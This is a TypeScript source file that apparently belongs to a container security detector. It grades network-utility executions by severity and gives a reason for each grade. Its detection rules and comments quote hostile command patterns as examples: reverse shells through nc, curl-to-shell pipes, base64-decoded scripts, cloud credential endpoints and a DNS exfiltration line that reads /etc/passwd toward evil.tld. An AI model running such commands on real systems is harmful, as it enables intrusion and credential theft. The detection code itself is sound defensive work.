/**
 * The severity ladder of "Network utility executed in container": one row per indicator, each with
 * its id, its severity, the plain words the README's severity table shows for it, and a test that
 * returns the reasons it raises for one candidate (none when it does not apply). Rows are listed
 * gravest first; within a severity, their order is the order of the reasons. A test that throws
 * fails closed on its own: its row still counts, at medium, with a note saying which check could not
 * be completed, and the other rows are judged as usual.
 */
import type { ExecEvent, Severity } from "../model.js";
import { maxSeverity, severityRank } from "../severity.js";
import { commandWords, resolvePath } from "../shell/index.js";
import type { Candidate } from "./candidates.js";
import { describeCategory, lookupPattern, lookupUtility } from "./catalogue.js";
import {
  type AncestorContext,
  decodedStageOf,
  describeFeed,
  type ExecutionsCache,
  feedsInterpreter,
  relayedShell,
  UNKNOWN_DIR,
} from "./feeds.js";
import { suspiciousLocation } from "./locations.js";
import { exfiltrationLook, findCredentialEndpoint, isExemptTarget } from "./network.js";
import { kubeletCall, Reading, type Subject, substitutedHost, uploads, VERSION_OR_HELP } from "./reading.js";
import { familyOf } from "./utilities/index.js";
import { commandOutputSent, quote } from "./utilities/words.js";

/** One rung of the ladder. */
export interface IndicatorRow {
  id: string;
  severity: Severity;
  /** What the indicator means, in the words of the README's severity table. */
  reason: string;
  /** The reasons raised for this subject; empty when the indicator does not apply. */
  test(subject: Subject): readonly string[];
}

/** What a row returns when it does not apply (shared: most rows do not, for most candidates). */
const NONE: readonly string[] = Object.freeze([]);
const one = (reason: string | undefined): readonly string[] => (reason === undefined ? NONE : [reason]);

/** The kubelet API row of one severity: its test keeps the first kubelet call only when it is that grave. */
function kubeletRow(id: string, severity: "critical" | "high", reason: string): IndicatorRow {
  return {
    id,
    severity,
    reason,
    test: ({ name, parsed }) => {
      const call = kubeletCall(name, parsed);
      return one(call?.severity === severity ? call.reason : undefined);
    },
  };
}

export const INDICATORS: readonly IndicatorRow[] = Object.freeze([
  {
    id: "executes-command",
    severity: "critical",
    reason:
      "the utility executes a command or a shell (`nc -e`, `ncat --sh-exec`, `socat EXEC:`/`SYSTEM:`, `tcpdump -z`, `wget --use-askpass`, ssh's `-o ProxyCommand=…` through scp/sftp/rsync)",
    test: ({ name, parsed }) => {
      const execution = familyOf(name)?.executes?.(name, parsed);
      return one(execution && `${name} executes a command or shell (${quote(execution)})`);
    },
  },
  {
    id: "feeds-interpreter",
    severity: "critical",
    reason:
      'what the utility downloads or prints is piped into a shell or interpreter, or run through a substitution (`curl … | sh`, `bash -c "$(curl …)"`)',
    test: ({ candidate }) => {
      const { segment, utility } = candidate;
      if (segment === undefined || !["download", "relay", "dns"].includes(utility.category)) return NONE;
      const feed = feedsInterpreter(segment);
      return one(feed && describeFeed(utility, feed));
    },
  },
  {
    id: "ancestor-feeds",
    severity: "critical",
    reason: "a command line of an ancestor pipes a utility's download or output into a shell or interpreter",
    test: ({ context }) => context.feeds,
  },
  {
    id: "relays-shell",
    severity: "critical",
    reason: "a relay carries an interactive shell (`sh -i 2>&1 | nc host port`)",
    test: (s) => {
      const segment = s.segment();
      if (segment === undefined || s.candidate.utility.category !== "relay") return NONE;
      const shell = relayedShell(segment);
      return one(shell && `${s.name} relays an interactive shell (${quote(shell)} | ${s.name})`);
    },
  },
  {
    id: "downloaded-file-executed",
    severity: "critical",
    reason: "the file the utility downloads is then executed (`wget -O /tmp/a http://x; sh /tmp/a`)",
    test: (s) => {
      const { candidate } = s;
      for (const output of s.outputs()) {
        if (output.directory) continue;
        const runners = s.executions().get(resolvePath(candidate.cwd ?? UNKNOWN_DIR, output.path) ?? "");
        if (runners?.some((runner) => runner !== s.segment())) {
          const shown = resolvePath(candidate.cwd, output.path) ?? output.path;
          return [`the file ${s.name} downloads (${quote(shown)}) is then executed`];
        }
      }
      return NONE;
    },
  },
  kubeletRow(
    "kubelet-exec",
    "critical",
    "a download tool runs a command through the kubelet API (ports 10250/10255, `/run/…`, `/exec/…`)",
  ),
  {
    id: "credential-endpoint",
    severity: "high",
    reason: "the arguments reach a cloud credential endpoint (169.254.169.254, fd00:ec2::254, 169.254.170.2)",
    test: ({ name, args }) => {
      // Repeated words are scanned once: padding with thousands of copies costs what one does.
      for (const arg of new Set(args)) {
        const endpoint = findCredentialEndpoint(arg);
        if (endpoint === undefined) continue;
        const shown =
          endpoint.written === endpoint.address
            ? endpoint.address
            : `${endpoint.written} = ${endpoint.address}`;
        return [`${name} reaches a cloud credential endpoint: ${quote(shown)} (${endpoint.label})`];
      }
      return NONE;
    },
  },
  {
    id: "exfiltration-name",
    severity: "high",
    reason:
      "the utility queries or contacts a DNS name that looks like exfiltration (very long or encoded labels)",
    test: (s) => {
      // What the shell expanded before the process started is only visible in the command line that
      // ran it: `sh -c 'dig $(cat /etc/passwd | base64 | head -c 60).evil.tld'` shows the data.
      const runtimeHosts = [s.parsed, ...s.writtenArgs()]
        .flatMap((p) => p.operands.map(substitutedHost))
        .filter((h): h is string => h !== undefined);
      for (const host of new Set([...s.targets().hosts, ...runtimeHosts])) {
        const look = exfiltrationLook(host);
        if (look === undefined) continue;
        const what =
          s.candidate.utility.category === "dns"
            ? "queries a name that looks"
            : "contacts a host whose name looks";
        return [`${s.name} ${what} like DNS exfiltration (${look}): ${quote(host)}`];
      }
      return NONE;
    },
  },
  {
    id: "uploads",
    severity: "high",
    reason:
      "the utility uploads a file or command output (`curl -T`, `-d @file`, `-F x=@file`, `wget --post-file`, `nc host port < file`)",
    test: (s) => {
      const upload =
        uploads(s.name, s.candidate.utility, s.parsed, s.segment()) ??
        s
          .writtenArgs()
          .map(commandOutputSent)
          .find((u) => u !== undefined);
      return one(upload && `${s.name} ${upload}`);
    },
  },
  kubeletRow(
    "kubelet-query",
    "high",
    "a download tool queries the kubelet API (`/pods`, `/runningpods`, `/configz`)",
  ),
  {
    id: "shell-pattern",
    severity: "high",
    reason:
      "the utility is called through a shell pattern, which hides its name from matching (`/???/???/c?rl`)",
    test: (s) => {
      const shown = s.segment() ?? s.written()[0];
      const head = shown === undefined ? undefined : commandWords(shown.argv)[0];
      if (head === undefined || lookupUtility(head) !== undefined || lookupPattern(head) === undefined)
        return NONE;
      return [
        `${s.name} is called through a shell pattern (${quote(head)}), which hides its name from matching`,
      ];
    },
  },
  {
    id: "decoded-stage",
    severity: "high",
    reason:
      "the utility runs in an encoded script that the command line decodes and executes (`echo … | base64 -d | sh`)",
    test: (s) => {
      const shown = s.segment() ?? s.written()[0];
      const stage = shown === undefined ? undefined : decodedStageOf(shown);
      return one(
        stage && `${s.name} runs in a ${stage}-encoded script that the command line decodes and executes`,
      );
    },
  },
  {
    id: "writes-into-writable",
    severity: "high",
    reason: "the utility downloads, or writes what it receives, into a writable or hidden place",
    test: (s) => {
      const { candidate } = s;
      for (const output of s.outputs()) {
        const resolved = resolvePath(candidate.cwd, output.path);
        if (resolved === undefined) continue;
        const location = suspiciousLocation(resolved);
        if (location === undefined || (location.kind !== "writable" && location.kind !== "hidden")) continue;
        const shown = output.directory ? `${resolved} (${output.why})` : resolved;
        const category = candidate.utility.category;
        const verb =
          category === "download" || category === "remote-copy"
            ? "downloads into"
            : "writes what it receives into";
        return [`${s.name} ${verb} ${location.words}: ${quote(shown)}`];
      }
      return NONE;
    },
  },
  {
    id: "renamed",
    severity: "high",
    reason:
      "the utility ran under another name (MITRE T1036.003): the event's names disagree, or an executable with a utility's argument shape runs from a suspicious place",
    test: (s) => renamedReason(s, "high"),
  },
  {
    id: "renamed-by-shape",
    severity: "medium",
    reason:
      "an uncatalogued executable has a utility's unmistakable argument shape (curl's `-fsSL` with a URL)",
    test: (s) => renamedReason(s, "medium"),
  },
  {
    id: "utility-location",
    severity: "medium",
    reason: "the utility itself runs from a writable or suspicious place",
    test: ({ candidate }) => {
      if (candidate.path === undefined) return NONE;
      const location = suspiciousLocation(candidate.path, candidate.cwd);
      return one(location && `the utility ${quote(candidate.path)} runs from ${location.words}`);
    },
  },
  {
    id: "ancestor-location",
    severity: "medium",
    reason: "a process that led to the utility runs from a writable or suspicious place",
    test: (s) =>
      s
        .placedAncestors()
        .filter((a) => a.known === undefined)
        .map((a) => `${a.index === 0 ? "parent" : "ancestor"} ${quote(a.where)} runs from ${a.words}`),
  },
  {
    id: "in-container",
    severity: "low",
    reason: "a network utility ran in a container",
    test: ({ name, candidate, event }) => {
      const session = event.viaExecSession === true ? " through an exec session" : "";
      return [`${name} (${describeCategory(candidate.utility.category)}) ran in a container${session}`];
    },
  },
  {
    id: "expected-location",
    severity: "low",
    reason:
      "an ancestor in a writable place is a known service script (the quiet defaults below): noted, not counted",
    test: (s) =>
      s
        .placedAncestors()
        .filter((a) => a.known !== undefined)
        .map(
          (a) =>
            `${a.index === 0 ? "parent" : "ancestor"} ${quote(a.where)} is ${a.known}; its location is expected`,
        ),
  },
]);

/** A candidate's judgement: its severity, its reasons gravest first, and why it is benign if it is. */
export interface Assessment {
  candidate: Candidate;
  severity: Severity;
  reasons: string[];
  benign?: string;
}

/** Judges one candidate against every row of {@link INDICATORS}. */
export function assess(
  candidate: Candidate,
  event: ExecEvent,
  context: AncestorContext,
  executionsCache: ExecutionsCache,
): Assessment {
  const subject = new Reading(candidate, event, context, executionsCache);
  const { name, args } = subject;
  const indicators: { severity: Severity; reason: string }[] = [];
  let failed = false;
  for (const row of INDICATORS) {
    let reasons: readonly string[];
    try {
      reasons = row.test(subject);
    } catch (error) {
      // Fail closed, this row alone: it counts, at medium, and says which check could not be completed.
      failed = true;
      const why = error instanceof Error ? error.message : String(error);
      const note = `${name} (${describeCategory(candidate.utility.category)}) ran in a container; its arguments could not be analysed for "${row.id}" (${why})`;
      indicators.push({ severity: "medium", reason: note });
      continue;
    }
    for (const reason of reasons) indicators.push({ severity: row.severity, reason });
  }

  let severity: Severity = "low";
  for (const indicator of indicators) severity = maxSeverity(severity, indicator.severity);
  const reasons = unique(
    indicators
      .map((indicator, order) => ({ ...indicator, order }))
      .sort((a, b) => severityRank(b.severity) - severityRank(a.severity) || a.order - b.order)
      .map((indicator) => indicator.reason),
  );

  let benign: string | undefined;
  // A check that could not be completed never reads as benign.
  if (!failed && severityRank(severity) <= severityRank("medium")) {
    const targets = subject.targets();
    if (args.length > 0 && args.every((arg) => VERSION_OR_HELP.has(arg))) {
      benign = "only asks for its version or help";
    } else if (
      targets.exemptable &&
      targets.hosts.length > 0 &&
      [...targets.hosts, ...targets.via].every((host) => isExemptTarget(host))
    ) {
      benign = `every target is loopback or motd.ubuntu.com (${quote(unique(targets.hosts).join(", "))})`;
    }
  }
  return { candidate, severity, reasons, ...(benign !== undefined ? { benign } : {}) };
}

function renamedReason(s: Subject, severity: "high" | "medium"): readonly string[] {
  const renamed = s.renamed();
  return renamed === undefined || renamed.severity !== severity ? NONE : [renamed.reason];
}

function unique<T>(values: T[]): T[] {
  return [...new Set(values)];
}
